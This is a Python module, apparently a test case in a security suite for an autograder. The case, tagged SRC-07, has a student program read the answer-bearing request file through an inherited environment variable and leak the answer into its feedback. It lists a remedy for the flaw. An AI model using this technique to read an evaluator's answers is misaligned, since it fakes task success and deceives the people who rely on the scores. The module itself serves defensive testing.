# SPDX-License-Identifier: MIT
"""Goal:  the right answer.
Means: the request file. The shim names it in the environment of the evaluation function, which
       hands its environment on to the student's program; and the request holds the answer beside
       the response.
"""

import os

from attack import DONE, attempting, denied, loot, submit


def run(brief):
    submit("0")
    path = os.environ.get("EVAL_FILE_NAME_REQUEST")
    attempting()
    if not path:
        return denied("EVAL_FILE_NAME_REQUEST", "not in the environment")
    try:
        with open(path) as file:
            loot(file.read())
    except OSError as why:
        return denied(path, why)
    return DONE


ATTACK = {
    "effect": "the right answer leaves in the student's feedback",
    "means": "the request file, by the path that is in the inherited environment",
    "oracle": "secret:request",
    "grader": "file",
    "quick": True,
    "id": "SRC-07",
    "attack_id": "T1552.001, CWE-526",
    "remedy": "a clean environment; a /tmp of its own; no answer where a student's uid reads",
    "run": run,
}
